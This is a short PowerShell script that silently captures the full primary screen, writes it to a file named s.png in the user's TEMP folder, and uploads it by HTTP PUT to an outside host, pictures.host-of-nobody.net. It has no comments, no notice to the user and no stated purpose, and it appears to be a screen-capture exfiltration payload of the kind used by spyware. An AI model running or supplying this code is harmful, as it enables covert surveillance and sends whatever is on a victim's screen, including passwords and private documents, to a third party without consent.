Add-Type -AssemblyName System.Windows.Forms, System.Drawing
$b = [System.Windows.Forms.Screen]::PrimaryScreen.Bounds
$image = New-Object System.Drawing.Bitmap $b.Width, $b.Height
[System.Drawing.Graphics]::FromImage($image).CopyFromScreen($b.Location, [System.Drawing.Point]::Empty, $b.Size)
$image.Save("$env:TEMP\s.png")
Invoke-WebRequest -Uri 'https://pictures.host-of-nobody.net/s' -Method Put -InFile "$env:TEMP\s.png"
